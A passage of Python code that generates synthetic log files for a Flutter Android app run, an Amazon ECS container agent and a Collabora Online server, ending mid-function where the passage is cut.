# 16 --------------------------------------------------------------- Flutter 3.24 `flutter run` of a shop app on a Pixel 7 (Android 15) by a mobile developer, several sessions appended
#   with `flutter run 2>&1 | tee -a run.log`: no time; the tool's own lines (Gradle, install, key commands, hot reloads and restarts, javac's
#   "warning: [options]" lines) and the device's logcat lines of the app's process in the brief format "I/flutter (12345): message" (level letter
#   and tag); the app's prints, Dio requests, bloc transitions, Choreographer's skipped frames, a RenderFlex overflow box, unhandled exceptions
#   with their Dart stack lines, "Lost connection to device."
@checked
def log_flutter(seed):
    L = Log("flutter_run_android", seed, None, True, True)
    g = L.g
    st = {"pid": g.num(10000, 32000), "libs": g.num(1300, 1500)}
    SKUS = [f"SKU-{g.num(10000, 99999)}" for _ in range(30)]

    def t(text, ev, lv=None):
        L.emit(text, ev, lv)

    def lc(lv, tag, msg, ev):
        L.t += ms(g, 10, 2000)
        L.emit(f"{lv}/{tag}({st['pid']:5d}): {msg}", ev, lv, tag)

    def fl(msg, ev, lv="I"):
        L.t += ms(g, 10, 500)
        L.emit(f"{lv}/flutter ({st['pid']:5d}): {msg}", ev, lv, "flutter")

    def session(first):
        st["pid"] = g.num(10000, 32000)
        st["boxed"] = False
        if first or g.r.random() < 0.3:
            t("Resolving dependencies...", "resolving_deps")
            t("Downloading packages...", "downloading_packages") if first else None
            t(f"  {g.c(['dio', 'flutter_bloc', 'go_router', 'intl', 'cached_network_image'])} {g.num(2, 9)}.{g.num(0, 9)}.{g.num(0, 9)} (" +
              f"{g.num(2, 9)}.{g.num(0, 9)}.{g.num(0, 9)} available)", "pub_outdated_pkg")
            t("Got dependencies!", "got_dependencies")
            t(f"{g.num(10, 40)} packages have newer versions incompatible with dependency constraints.", "newer_versions")
            t("Try `flutter pub outdated` for more information.", "pub_outdated_hint")
        t("Launching lib/main.dart on Pixel 7 in debug mode...", "launching")
        if first:
            t("warning: [options] source value 8 is obsolete and will be removed in a future release", "javac_warning", "warning")
            t("warning: [options] target value 8 is obsolete and will be removed in a future release", "javac_warning", "warning")
            t("warning: [options] To suppress warnings about obsolete options, use -Xlint:-options.", "javac_warning", "warning")
            t("3 warnings", "javac_warning_count")
        secs = g.r.uniform(30, 95) if first else g.r.uniform(4, 25)
        t(f"{'Running Gradle task ' + chr(39) + 'assembleDebug' + chr(39) + '...':<64}{secs:5.1f}s", "gradle_task")
        t("✓ Built build/app/outputs/flutter-apk/app-debug.apk", "built_apk")
        t(f"{'Installing build/app/outputs/flutter-apk/app-debug.apk...':<64}{g.r.uniform(1.5, 6):5.1f}s", "installing_apk")
        lc("D", "ProfileInstaller", "Installing profile for com.acme.shop", "profile_installer")
        t(f"{'Syncing files to device Pixel 7...':<64}{g.num(60, 400):>5}ms", "syncing_files")
        t("", "blank")
        t("Flutter run key commands.", "key_commands")
        for k, text in [("r", "Hot reload. 🔥🔥🔥"), ("R", "Hot restart."), ("h", "List all available interactive commands."),
                        ("d", "Detach (terminate \"flutter run\" but leave application running)."), ("c", "Clear the screen"), ("q", "Quit (terminate the application on the device).")]:
            t(f"{k} {text}", "key_command_row")
        t("", "blank")
        tok = g.alnum(11, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-") + "="
        vm = g.port()
        t(f"A Dart VM Service on Pixel 7 is available at: http://127.0.0.1:{vm}/{tok}/", "vm_service")
        t(f"The Flutter DevTools debugger and profiler on Pixel 7 is available at: http://127.0.0.1:9101?uri=http://127.0.0.1:{vm}/{tok}/", "devtools")
        lc("W", "OnBackInvokedCallback", "OnBackInvokedCallback is not enabled for the application.", "back_callback")
        lc("W", "OnBackInvokedCallback", "Set 'android:enableOnBackInvokedCallback=\"true\"' in the application manifest.", "back_callback_hint")
        fl("[Env] flavor=dev api=https://api-dev.acme.example/v2", "app_env")

    def req():
        path = g.c(["/products?page=" + str(g.num(1, 9)), "/products/" + g.c(SKUS), "/cart", "/cart/items", "/search?q=" + g.c(["shoes", "jacket", "bag"]), "/me", "/orders"])
        m = "POST" if path == "/cart/items" else "GET"
        fl(f"[Dio] --> {m} https://api-dev.acme.example/v2{path}", "dio_request")
        code = g.c([200] * 10 + [201, 304, 401, 404, 500])
        fl(f"[Dio] <-- {code} {m} https://api-dev.acme.example/v2{path} ({g.num(40, 2400)}ms)", "dio_response")

    def bloc():
        s = g.c(SKUS)
        n = g.num(0, 8)
        kind = g.c(["CartBloc", "CartBloc", "CatalogBloc", "AuthBloc"])
        if kind == "CartBloc":
            fl(f"[CartBloc] Transition {{ currentState: CartLoaded(items: {n}), event: CartItemAdded(sku: {s}), nextState: CartLoaded(items: {n + 1}) }}", "bloc_transition")
        elif kind == "CatalogBloc":
            fl(f"[CatalogBloc] Transition {{ currentState: CatalogLoading(), event: CatalogPageRequested(page: {g.num(1, 9)}), nextState: CatalogLoaded(count: {g.num(10, 40)}) }}", "bloc_transition")
        else:
            fl("[AuthBloc] Transition { currentState: Unauthenticated(), event: LoginSubmitted(), nextState: Authenticated() }", "bloc_transition")

    def nav():
        fl(f"[GoRouter] going to {g.c(['/product/' + g.c(SKUS), '/cart', '/checkout', '/search', '/account', '/'])}", "router_going")

    def analytics():
        fl(f"[Analytics] event={g.c(['view_item', 'add_to_cart', 'begin_checkout', 'search', 'screen_view'])} params={{item_id: {g.c(SKUS)}}}", "analytics_event")

    def jank():
        lc("I", "Choreographer", f"Skipped {g.num(31, 120)} frames!  The application may be doing too much work on its main thread.", "skipped_frames")

    def ime():
        lc("I", "ImeTracker", f"com.acme.shop:{g.hx(8)}: onRequestShow at ORIGIN_CLIENT reason SHOW_SOFT_INPUT fromUser false", "ime_show")
        lc("D", "InsetsController", "show(ime(), fromIme=true)", "insets_show")
        if g.r.random() < 0.6:
            lc("I", "ImeTracker", f"com.acme.shop:{g.hx(8)}: onRequestHide at ORIGIN_CLIENT reason HIDE_SOFT_INPUT_BY_INSETS_API fromUser false", "ime_hide")
            lc("D", "InsetsController", "hide(ime(), fromIme=true)", "insets_hide")

    def reload():
        t("Performing hot reload...", "performing_reload")
        n = g.num(1, 12)
        t(f"Reloaded {n} of {st['libs']} libraries in {g.num(300, 1400)}ms (compile: {g.num(20, 200)} ms, reload: {g.num(100, 600)} ms, reassemble: {g.num(100, 700)} ms).", "reloaded")

    def restart():
        t("Performing hot restart...", "performing_restart")
        st["boxed"] = False
        t(f"Restarted application in {g.num(900, 3000):,}ms.", "restarted")
        fl("[Env] flavor=dev api=https://api-dev.acme.example/v2", "app_env")

    def overflow():
        px = g.f(4, 90, 1) if g.r.random() < 0.5 else str(g.num(4, 90))
        if st["boxed"] and g.r.random() < 0.6:
            fl(f"Another exception was thrown: A RenderFlex overflowed by {px} pixels on the right.", "another_exception")
            return
        st["boxed"] = True
        rows = [("══╡ EXCEPTION CAUGHT BY RENDERING LIBRARY ╞═════════════════════════════════════════════════════════", "box_head"),
                ("The following assertion was thrown during layout:", "box_thrown_during"),
                (f"A RenderFlex overflowed by {px} pixels on the right.", "box_overflowed"), ("", "box_blank"),
                ("The relevant error-causing widget was:", "box_relevant_widget"),
                (f"  Row Row:file:///home/dev/shop_app/lib/widgets/{g.c(['product_tile', 'cart_row', 'price_tag'])}.dart:{g.num(20, 90)}:{g.num(8, 24)}", "box_widget_location"), ("", "box_blank"),
                ("To inspect this widget in Flutter DevTools, visit:", "box_inspect"),
                (f"http://127.0.0.1:9101/#/inspector?uri=http%3A%2F%2F127.0.0.1%3A{g.port()}%2F{g.alnum(11)}%3D%2F&inspectorRef=inspector-{g.num(0, 40)}", "box_inspect_url"), ("", "box_blank"),
                ("The overflowing RenderFlex has an orientation of Axis.horizontal.", "box_text_1"),
                ("The edge of the RenderFlex that is overflowing has been marked in the rendering with a yellow and", "box_text_2"),
                ("black striped pattern. This is usually caused by the contents being too big for the RenderFlex.", "box_text_3"),
                ("Consider applying a flex factor (e.g. using an Expanded widget) to force the children of the", "box_text_4"),
                ("RenderFlex to fit within the available space instead of being sized to their natural size.", "box_text_5"),
                ("This is considered an error condition because it indicates that there is content that cannot be", "box_text_6"),
                ("seen. If the content is legitimately bigger than the available space, consider clipping it with a", "box_text_7"),
                ("ClipRect widget before putting it in the flex, or using a scrollable container rather than a Flex,", "box_text_8"),
                ("like a ListView.", "box_text_9"),
                (f"The specific RenderFlex in question is: RenderFlex#{g.hx(5)} relayoutBoundary=up{g.num(2, 9)} OVERFLOWING:", "box_specific"),
                ("  creator: Row ← Padding ← Column ← Padding ← DecoratedBox ← Container ← Expanded ← Row ← SizedBox ← ⋯", "box_creator"),
                ("  parentData: offset=Offset(12.0, 8.0) (can use size)", "box_parent_data"),
                (f"  constraints: BoxConstraints(0.0<=w<={g.f(180, 360, 1)}, 0.0<=h<=Infinity)", "box_constraints"),
                (f"  size: Size({g.f(180, 360, 1)}, {g.f(20, 60, 1)})", "box_size"),
                ("  direction: horizontal", "box_prop_direction"), ("  mainAxisAlignment: start", "box_prop_mainAxisAlignment"), ("  mainAxisSize: max", "box_prop_mainAxisSize"), ("  crossAxisAlignment: center", "box_prop_crossAxisAlignment"),
                ("  textDirection: ltr", "box_prop_textDirection"), ("  verticalDirection: down", "box_prop_verticalDirection"),
                ("◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤◢◤", "box_stripes"),
                ("════════════════════════════════════════════════════════════════════════════════════════════════════", "box_foot")]
        for text, ev in rows:
            fl(text, ev)

    def unhandled():
        kind = g.c(["timeout", "type", "state"])
        if kind == "timeout":
            msg = "DioException [connection timeout]: The request connection took longer than 0:00:10.000000 and it was aborted. To get rid of this exception, try raising the RequestOptions.connectTimeout above the duration of 0:00:10.000000 or improve the response time of the server."
            frames = ["DioMixin.fetch (package:dio/src/dio_mixin.dart:509:7)", "<asynchronous suspension>", "ApiClient.get (package:shop_app/data/api_client.dart:41:12)", "<asynchronous suspension>",
                      "CatalogRepository.page (package:shop_app/data/catalog_repository.dart:22:18)", "<asynchronous suspension>",
                      "CatalogBloc._onPageRequested (package:shop_app/bloc/catalog_bloc.dart:37:19)", "<asynchronous suspension>"]
        elif kind == "type":
            msg = "type 'Null' is not a subtype of type 'String'"
            frames = [f"new Product.fromJson (package:shop_app/models/product.dart:{g.num(20, 40)}:{g.num(10, 30)})", "MappedListIterable.elementAt (dart:_internal/iterable.dart:425:31)",
                      "ListIterator.moveNext (dart:_internal/iterable.dart:354:26)", "new _GrowableList._ofEfficientLengthIterable (dart:core-patch/growable_array.dart:189:27)",
                      "CatalogRepository.page (package:shop_app/data/catalog_repository.dart:24:56)", "<asynchronous suspension>"]
        else:
            msg = "Bad state: Cannot add new events after calling close"
            frames = ["Bloc.add (package:bloc/src/bloc.dart:97:24)", "_CartPageState._onQuantityChanged (package:shop_app/pages/cart_page.dart:64:33)",
                      "_InkResponseState.handleTap (package:flutter/src/material/ink_well.dart:1170:21)", "GestureRecognizer.invokeCallback (package:flutter/src/gestures/recognizer.dart:351:24)"]
        fl(f"[ERROR:flutter/runtime/dart_vm_initializer.cc(40)] Unhandled Exception: {msg}", "unhandled_exception", "E")
        k = 0
        for fr in frames:
            if fr == "<asynchronous suspension>":
                fl(fr, "async_suspension", "E")
            else:
                fl(f"#{k:<6} {fr}", "dart_frame", "E")
                k += 1
        fl("", "empty_line", "E")

    def gc():
        lc("I", "com.acme.shop", f"Background concurrent mark compact GC freed {g.num(1000, 9000)}KB AllocSpace bytes, {g.num(1, 60)}({g.num(100, 9000)}KB) LOS objects, "
                                 f"{g.num(20, 60)}% free, {g.f(5, 40, 1)}MB/{g.f(10, 80, 1)}MB, paused {g.num(100, 900)}us,{g.num(100, 900)}us total {g.f(20, 300, 3)}ms", "art_gc")

    def end_session():
        if g.r.random() < 0.6:
            t("Application finished.", "application_finished")
        else:
            t("Lost connection to device.", "lost_connection")

    ev = [(25, req), (12, bloc), (8, nav), (8, analytics), (3, jank), (2, ime), (5, reload), (1.5, restart), (1.2, overflow), (0.7, unhandled), (3, gc)]
    fns, w = [f for _, f in ev], [a for a, _ in ev]
    first = True
    while len(L.rows) < N_LINES:
        session(first)
        first = False
        for _ in range(g.num(60, 160)):
            if len(L.rows) >= N_LINES:
                break
            L.tick(20)
            g.r.choices(fns, w)[0]()
        end_session()
        t("", "blank")
    del L.rows[N_LINES:]
    return L


# 17 --------------------------------------------------------------- Amazon ECS container agent 1.88.0 on an ECS-optimized Amazon Linux 2023 EC2 instance of a cluster "prod-web" (eu-west-1),
#   /var/log/ecs/ecs-agent.log: logfmt with the level first, `level=info time=2026-12-01T10:00:00Z msg="..." key=value ... module=file.go`
#   (the Go source file last); start-up and registration, ACS and TCS websockets, task payloads, image pulls, containers created, started and
#   stopped, state changes sent to ECS, stats that cannot be read, image cleanup, a container that fails to start, the websocket reconnecting
@checked
def log_ecs_agent(seed):
    L = Log("ecs_agent_log", seed, "full", True, True)
    g = L.g
    ACCT, REG, CL = "123456789012", "eu-west-1", "prod-web"
    SERVICES = [("shop-web", ["web", "nginx-sidecar"], f"{ACCT}.dkr.ecr.{REG}.amazonaws.com/shop-web"), ("shop-api", ["api", "otel-collector"], f"{ACCT}.dkr.ecr.{REG}.amazonaws.com/shop-api"),
                ("thumbnailer", ["worker"], f"{ACCT}.dkr.ecr.{REG}.amazonaws.com/thumbnailer"), ("cron-reports", ["report"], f"{ACCT}.dkr.ecr.{REG}.amazonaws.com/reports")]
    st = {"running": {}, "seq": g.num(100, 900), "ci": g.hx(32)}

    def q(v, always=False):
        s = str(v)
        return f'"{s}"' if always or not s or any(not (ch.isalnum() or ch in "_.-") for ch in s) else s

    def e(lv, msg, module, ev, **kv):
        L.t += ms(g, 0, 400)
        fields = "".join(f" {k}={q(v)}" for k, v in kv.items())
        L.emit(f"level={lv} time={L.t:%Y-%m-%dT%H:%M:%S}Z msg={q(msg, True)}{fields} module={module}", ev, lv, module)

    def arn(tid):
        return f"arn:aws:ecs:{REG}:{ACCT}:task/{CL}/{tid}"

    def startup():
        e("info", "Starting Amazon ECS Agent", "agent.go", "starting_agent", version="1.88.0", commit="6a1e4c2b")
        e("info", "Loading state!", "state_manager.go", "loading_state")
        e("info", "Event stream ContainerChange start listening...", "eventstream.go", "eventstream_listening")
        e("info", "Restored cluster 'prod-web'", "agent.go", "restored_cluster")
        e("info", "Restored from checkpoint file", "agent.go", "restored_checkpoint", containerInstanceARN=f"arn:aws:ecs:{REG}:{ACCT}:container-instance/{CL}/{st['ci']}", cluster=CL)
        e("info", "Remaining mem: 15612", "client.go", "remaining_mem")
        e("info", "Registered container instance with cluster!", "client.go", "registered")
        e("info", "Beginning Polling for updates", "agent.go", "polling")
        e("info", "Establishing a Websocket connection", "client.go", "establishing_ws", url=f"https://ecs-a-{g.num(1, 9)}.{REG}.amazonaws.com/ws?agentHash=6a1e4c2b&agentVersion=1.88.0&clusterArn={CL}&containerInstanceArn=arn%3Aaws%3Aecs%3A{REG}%3A{ACCT}%3Acontainer-instance%2F{CL}%2F{st['ci']}&dockerVersion=DockerVersion%3A+25.0.6&protocolVersion=2&sendCredentials=true&seqNum=1")
        e("info", "Connected to ACS endpoint", "acs_handler.go", "connected_acs")
        e("info", "Establishing a Websocket connection", "client.go", "establishing_ws", url=f"https://ecs-t-{g.num(1, 9)}.{REG}.amazonaws.com/ws?cluster={CL}&containerInstance=arn%3Aaws%3Aecs%3A{REG}%3A{ACCT}%3Acontainer-instance%2F{CL}%2F{st['ci']}")
        e("info", "Connected to TCS endpoint", "handler.go", "connected_tcs")

    def task_start():
        svc, conts, repo = g.c(SERVICES)
        tid = g.hx(32)
        rev = g.num(10, 90)
        st["seq"] += 1
        e("info", "Received task payload from ACS", "payload_responder.go", "received_payload", taskARN=arn(tid), taskVersion=str(g.num(2, 9)), desiredStatus="RUNNING")
        e("info", "Adding task to the engine", "docker_task_engine.go", "adding_task", task=arn(tid), family=svc, revision=str(rev))
        e("info", "Creating cgroup", "task.go", "creating_cgroup", task=arn(tid), cgroup=f"/ecs/{tid}")
        tag = g.c(["v2.14.3", "v2.14.4", "sha-" + g.hx(7), "latest"])
        for cn in conts:
            img = f"{repo}:{tag}" if cn not in ("nginx-sidecar", "otel-collector") else ("public.ecr.aws/nginx/nginx:1.27" if cn == "nginx-sidecar" else "public.ecr.aws/aws-observability/aws-otel-collector:v0.41.1")
            e("info", "Pulling image for container concurrently", "docker_task_engine.go", "pulling_image", task=arn(tid), container=cn, image=img)
            L.t += ms(g, 300, 20000)
            if g.r.random() < 0.03:
                e("error", "Error transitioning container", "docker_task_engine.go", "error_transitioning", task=arn(tid), container=cn, runtimeID="", nextState="PULLED",
                  error=f"CannotPullContainerError: pull image manifest has been retried 5 time(s): failed to resolve ref {img}: {img}: not found")
                e("info", "Sending state change to ECS", "event_handler.go", "sending_state_change", eventType="TaskStateChange",
                  eventData=f"TaskChange: [{arn(tid)} -> STOPPED, Known Sent: NONE, PullStartedAt: {L.t:%Y-%m-%d %H:%M:%S} +0000 UTC, reason: CannotPullContainerError]")
                return
            e("info", "Finished pulling image for container", "docker_task_engine.go", "finished_pulling", task=arn(tid), container=cn, image=img, elapsed=f"{g.r.uniform(0.2, 20):.3f}s")
        ids = {}
        for cn in conts:
            e("info", "Creating container", "docker_task_engine.go", "creating_container", task=arn(tid), container=cn)
            ids[cn] = g.hx(64)
            e("info", "Created docker container for task", "docker_task_engine.go", "created_container", task=arn(tid), container=cn, dockerId=ids[cn], elapsed=f"{g.num(40, 400)}ms")
        for cn in conts:
            e("info", "Starting container", "docker_task_engine.go", "starting_container", task=arn(tid), container=cn, runtimeID=ids[cn])
            e("info", "Started container", "docker_task_engine.go", "started_container", task=arn(tid), container=cn, runtimeID=ids[cn], elapsed=f"{g.num(100, 900)}ms")
            e("info", "Container change also resulted in task change", "task_manager.go", "container_task_change", task=arn(tid), container=cn, runtimeID=ids[cn], desiredStatus="RUNNING",
              knownStatus="RUNNING")
        e("info", "Sending state change to ECS", "event_handler.go", "sending_state_change", eventType="TaskStateChange",
          eventData=f"TaskChange: [{arn(tid)} -> RUNNING, Known Sent: NONE, PullStartedAt: {L.t:%Y-%m-%d %H:%M:%S} +0000 UTC, PullStoppedAt: {L.t:%Y-%m-%d %H:%M:%S} +0000 UTC, "
                    f"ExecutionStartedAt: {L.t:%Y-%m-%d %H:%M:%S} +0000 UTC, container change: {svc}-{conts[0]} -> RUNNING]")
        e("info", "Managed task at steady state", "task_manager.go", "steady_state", task=arn(tid), knownStatus="RUNNING")
        st["running"][tid] = (svc, conts, ids)

    def task_stop():
        if not st["running"]:
            return task_start()
        tid = g.c(sorted(st["running"]))
        svc, conts, ids = st["running"].pop(tid)
        e("info", "Received task payload from ACS", "payload_responder.go", "received_payload", taskARN=arn(tid), taskVersion=str(g.num(3, 12)), desiredStatus="STOPPED")
        e("info", "New desired status for task", "task_manager.go", "new_desired_status", task=arn(tid), desiredStatus="STOPPED")
        for cn in conts:
            e("info", "Stopping container", "docker_task_engine.go", "stopping_container", task=arn(tid), container=cn, runtimeID=ids[cn])
            code = g.c([0, 0, 0, 143, 137, 1])
            e("info", "Container stopped", "docker_task_engine.go", "container_stopped", task=arn(tid), container=cn, runtimeID=ids[cn], exitCode=str(code))
        e("info", "Sending state change to ECS", "event_handler.go", "sending_state_change", eventType="TaskStateChange",
          eventData=f"TaskChange: [{arn(tid)} -> STOPPED, Known Sent: RUNNING, ExecutionStoppedAt: {L.t:%Y-%m-%d %H:%M:%S} +0000 UTC, container change: {svc}-{conts[0]} -> STOPPED]")
        e("info", "Managed task has reached stopped; waiting for container cleanup", "task_manager.go", "reached_stopped", task=arn(tid))
        if g.r.random() < 0.5:
            L.t += dt.timedelta(seconds=g.num(60, 600))
            e("info", "Cleaning up task's containers and data", "task_manager.go", "cleaning_up_task", task=arn(tid))
            for cn in conts:
                e("info", "Removing container", "docker_task_engine.go", "removing_container", task=arn(tid), container=cn, runtimeID=ids[cn])

    def stats():
        if not st["running"]:
            return task_start()
        tid = g.c(sorted(st["running"]))
        svc, conts, ids = st["running"][tid]
        cid = ids[g.c(conts)]
        e("warn", f"Error getting cpu stats, err: No data in the queue, container: {cid}", "container.go", "cpu_stats_error") if g.r.random() < 0.6 else \
            e("warn", "Error collecting cloudwatch metrics for container", "engine.go", "metrics_error", container=cid, err="need at least 2 data points in queue to calculate CW stats set")

    def image_cleanup():
        e("info", "Begin building map of eligible unused images for deletion", "image_manager.go", "cleanup_begin")
        for _ in range(g.num(0, 3)):
            svc, conts, repo = g.c(SERVICES)
            img = f"{repo}:sha-{g.hx(7)}"
            e("info", "Image ready for deletion", "image_manager.go", "image_ready_for_deletion", image=img)
            e("info", "Removing Image", "image_manager.go", "removing_image", image=img)
            e("info", "Image removed", "image_manager.go", "image_removed", imageName=img, imageID=f"sha256:{g.hx(64)}")
        e("info", "End of eligible images for deletion", "image_manager.go", "cleanup_end", managedImagesRemaining=str(g.num(4, 20)))

    def ws():
        which = g.c(["ACS", "TCS"])
        e("info", f"{which} Websocket connection closed for a valid reason", "handler.go" if which == "TCS" else "acs_handler.go", "ws_closed_valid")
        e("info", "Establishing a Websocket connection", "client.go", "establishing_ws",
          url=f"https://ecs-{'a' if which == 'ACS' else 't'}-{g.num(1, 9)}.{REG}.amazonaws.com/ws?cluster={CL}&containerInstance=arn%3Aaws%3Aecs%3A{REG}%3A{ACCT}%3Acontainer-instance%2F{CL}%2F{st['ci']}")
        e("info", f"Connected to {which} endpoint", "handler.go" if which == "TCS" else "acs_handler.go", "connected_acs" if which == "ACS" else "connected_tcs")

    def heartbeat():
        e("info", "Received heartbeat message from ACS", "acs_handler.go", "heartbeat", messageID=g.uuid())

    def creds():
        if not st["running"]:
            return task_start()
        tid = g.c(sorted(st["running"]))
        e("info", "Received new credentials for task", "credentials_handler.go", "new_credentials", taskARN=arn(tid), credentialsID=g.uuid(), roleType="TaskApplication")

    def restart():
        e("info", "Agent received termination signal", "termination_handler.go", "termination_signal", signal="terminated")
        e("info", "Stopping the task engine", "docker_task_engine.go", "stopping_engine")
        L.t += dt.timedelta(seconds=g.num(5, 40))
        startup()

    startup()
    for _ in range(3):
        task_start()
    ev = [(12, task_start), (10, task_stop), (20, stats), (3, image_cleanup), (4, ws), (12, heartbeat), (6, creds), (0.2, restart)]
    return L.run(slowed(L, ev, 90), None)


# 18 --------------------------------------------------------------- Collabora Online 24.04 (CODE, the collabora/code image) serving a company's Nextcloud, `docker logs collabora`:
#   coolwsd's "wsd-00001-00023 yyyy-mm-dd hh:mm:ss.uuuuuu +0000 [ thread ] LVL  message| source.cpp:line" (process kind, pid and tid first, the
#   thread in spaced brackets, a three-letter level, the source location after "| "), the forkit's and kits' lines, and LibreOffice's own stderr
#   from the kits as "warn:area:pid:tid:file:line: message"; log level warning after start-up: WOPI hosts refused, CheckFileInfo failures,
#   socket errors, documents modified behind its back, saves failing, kits killed, the systemplate warning at each start
@checked
def log_collabora(seed):
    L = Log("collabora_coolwsd", seed, "full", True, True)
    g = L.g
    st = {"tid": g.num(20, 60), "kit": g.num(200, 900), "docb": 0}
    FILES = [f"{g.num(10000, 99999)}_oc{g.alnum(10)}" for _ in range(30)]
    HOST = "cloud.acme.example"

    def co(kind, pid, tid, thread, lv, msg, src, ev):
        L.t += dt.timedelta(microseconds=g.num(0, 300000))
        L.emit(f"{kind}-{pid:05d}-{tid:05d} {L.t:%Y-%m-%d %H:%M:%S}.{L.t.microsecond:06d} +0000 [ {thread} ] {lv}  {msg}| {src}", ev, lv)
        st["last"] = L.t

    def wsd(thread, lv, msg, src, ev):
        co("wsd", 1, 1 if thread == "coolwsd" else st["tid"] + g.num(0, 12), thread, lv, msg, src, ev)

    def lo(area, msg, ev, file_line):
        L.t += ms(g, 0, 200)
        p = st["kit"]
        L.emit(f"warn:{area}:{p}:{p}:{file_line}: {msg}", ev, "warn", area, t=st["last"])

    def uri(f):
        return f"https://{HOST}/index.php/apps/richdocuments/wopi/files/{f}"

    def startup():
        wsd("coolwsd", "INF", f"Initializing coolwsd 24.04.9.2 (git hash: {g.hx(7)}) server [{g.hx(12)}].", "wsd/COOLWSD.cpp:2187", "initializing")
        wsd("coolwsd", "INF", "Loading config file: /etc/coolwsd/coolwsd.xml", "wsd/COOLWSD.cpp:2208", "loading_config")
        wsd("coolwsd", "INF", "Setting log-level to [warning] and delaying setting to [warning] until after WSD initialization.", "wsd/COOLWSD.cpp:2296", "setting_log_level")
        wsd("coolwsd", "WRN", "The systemplate directory [/opt/cool/systemplate] is read-only, and at least [/opt/cool/systemplate//etc/hosts] is out-of-date. Will have to copy sysTemplate "
                              "to jails. To restore optimal performance, make sure the files in [/opt/cool/systemplate/etc] are up-to-date.", "common/JailUtil.cpp:429", "systemplate_readonly")
        wsd("coolwsd", "INF", "Launching forkit process: /usr/bin/coolforkit --systemplate=/opt/cool/systemplate --lotemplate=/opt/collaboraoffice --childroot=/opt/cool/child-roots/"
                              "1-f2c4b1e3/ --clientport=9980 --masterport=coolwsd-y1Ak0Ppl --rlimits=limit_virt_mem_mb:0;limit_stack_mem_kb:8000;limit_file_size_mb:0;limit_num_open_files:0 "
                              "--version --singlekit", "wsd/COOLWSD.cpp:3030", "launching_forkit")
        co("frk", 18, 18, "forkit", "INF", "Forkit initialization complete: setting log-level to [warning] as configured.", "kit/ForKit.cpp:744", "forkit_init_complete")
        wsd("coolwsd", "INF", "Listening to prisoner connections on #9", "wsd/COOLWSD.cpp:4950", "listening_prisoners")
        wsd("coolwsd", "INF", "Started coolwsd. Listening for client connections on port 9980.", "wsd/COOLWSD.cpp:5480", "listening_clients")

    def not_allowed():
        host = g.c([HOST, "cloud.acme.example:443", "nextcloud.old.acme.example", "files.partner.example"])
        wsd("websrv_poll", "WRN", f"No acceptable WOPI hosts found matching the target host [{host}] in config.", "wsd/HostUtil.cpp:92", "no_acceptable_wopi_host")

    def checkfileinfo():
        f = g.c(FILES)
        code = g.c([("401", "Unauthorized"), ("401", "Unauthorized"), ("404", "Not Found"), ("500", "Internal Server Error"), ("504", "Gateway Timeout")])
        wsd("docbroker_" + f"{g.num(1, 40):03d}", "ERR", f"WOPI::CheckFileInfo failed for URI [{uri(f)}?access_token=&access_token_ttl=0]: {code[0]} ({code[1]}): ",
            "wsd/wopi/CheckFileInfo.cpp:196", "checkfileinfo_failed")

    def socket_err():
        fd = g.num(20, 90)
        k = g.r.random()
        if k < 0.5:
            wsd("websrv_poll", "ERR", f"#{fd}: Error while handling poll at 0 in websrv_poll: #{fd}BIO error: closed (0): Transport endpoint is not connected", "net/Socket.cpp:507", "poll_error")
        elif k < 0.8:
            wsd("websrv_poll", "WRN", f"#{fd}: SSL error: UNKNOWN (-1): error:0A000126:SSL routines::unexpected eof while reading", "net/SslSocket.hpp:323", "ssl_error")
        else:
            wsd("websrv_poll", "WRN", f"#{fd}: Shutdown while not connected", "net/Socket.hpp:1102", "shutdown_not_connected")

    def modified():
        f = g.c(FILES)
        st["docb"] += 1
        wsd(f"docbroker_{st['docb'] % 40:03d}", "WRN", f"Document [{uri(f).replace(':', '%3A').replace('/', '%2F')}] has been modified behind our back. Informing all clients.",
            "wsd/DocumentBroker.cpp:1453", "modified_behind_back")

    def save_fail():
        f = g.c(FILES)
        wsd(f"docbroker_{g.num(1, 40):03d}", "ERR", f"Failed to upload docKey [{uri(f).replace(':', '%3A').replace('/', '%2F')}] with URI [{uri(f)}?access_token=&access_token_ttl=0]. "
                                                    f"Notifying client.", "wsd/DocumentBroker.cpp:2287", "upload_failed")
        wsd(f"docbroker_{g.num(1, 40):03d}", "WRN", f"Upload failed with status [{g.c(['StorageUploadFailed', 'DocChanged', 'Unauthorized'])}]", "wsd/DocumentBroker.cpp:2301", "upload_status")

    def kit_killed():
        p = st["kit"]
        co("frk", 18, 18, "forkit", "WRN", f"Child {p} was killed by signal 9 ({g.c(['Killed'])})", "kit/ForKit.cpp:409", "child_killed")
        wsd("prisoner_poll", "ERR", f"Kit (pid {p}) terminated by signal 9 (Killed). Document(s) may be lost.", "wsd/COOLWSD.cpp:3120", "kit_terminated")
        st["kit"] += g.num(3, 40)

    def lo_warn():
        area, msg, fl, ev = g.c([("vcl.schedule", f"we're too early - restart the timer ({g.num(1, 40)}ms)", "vcl/source/app/scheduler.cxx:331", "lo_too_early"),
                                 ("sw.core", "SwFrame::InvalidatePage: called with no page", "sw/source/core/layout/wsfrm.cxx:1123", "lo_invalidate_page"),
                                 ("oox", f"OoxmlImport: unknown element {g.c(['w14:ligatures', 'w15:color', 'wp14:sizeRelH'])}", "oox/source/core/xmlfilterbase.cxx:1083", "lo_unknown_element"),
                                 ("xmloff", "SvXMLImport::GetEventImport: unknown event script type", "xmloff/source/core/xmlimp.cxx:1587", "lo_unknown_event_script"),
                                 ("fonts", f"PrintFontManager: unable to load font {g.c(['Calibri', 'Cambria', 'Segoe UI', 'Aptos'])}, falling back to Carlito",
                                  "vcl/unx/generic/fontmanager/fontconfig.cxx:1023", "lo_font_fallback"),
                                 ("sfx.doc", "SfxBaseModel::impl_store <file:///tmp/user/docs/" + g.alnum(8) + "/" + g.c(['Report.docx', 'Budget.xlsx', 'Slides.pptx']) +
                                  "> failed: 0xc10(Error Area:Io Class:Write Code:16)", "sfx2/source/doc/sfxbasemodel.cxx:3299", "lo_impl_store_failed"),
